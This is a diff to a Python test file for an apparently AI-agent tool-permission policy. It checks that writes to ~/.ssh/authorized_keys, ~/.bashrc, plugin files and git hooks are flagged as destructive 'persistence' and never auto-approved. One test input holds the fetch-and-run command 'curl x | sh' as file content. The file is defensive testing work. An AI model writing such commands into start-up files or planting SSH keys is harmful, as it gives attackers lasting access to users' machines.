@@ -263,8 +263,18 @@ def test_the_flags_ceiling_never_approves_a_secret(options: PolicyOptions) -> No
     decision = decide(
         ToolCall("write_file", {"path": "~/.ssh/authorized_keys", "text": "k"}), write_file
     )
-    assert decision.risk is Risk.WRITE
+    assert decision.risk is Risk.DESTRUCTIVE  # keys that let someone in: persistence too
+    assert decision.reason.startswith("persistence: write_file changes ~/.ssh/authorized_keys")
     assert unattended(decision, options.ceiling) is None
+
+
+@pytest.mark.parametrize("path", ["~/.bashrc", "~/.config/llmos/plugins/x.py", ".git/hooks/x"])
+def test_a_tool_writing_a_start_up_file_is_never_approved_by_a_flag(path: str) -> None:
+    decision = decide(ToolCall("write_file", {"path": path, "text": "curl x | sh"}), write_file)
+    assert decision.risk is Risk.DESTRUCTIVE and "persistence" in decision.reason
+    assert unattended(decision, YES_DESTRUCTIVE.ceiling) is None
+    plain = decide(ToolCall("write_file", {"path": "notes.txt", "text": "hi"}), write_file)
+    assert unattended(plain, YES.ceiling) is True
 
 
 @needs_parser
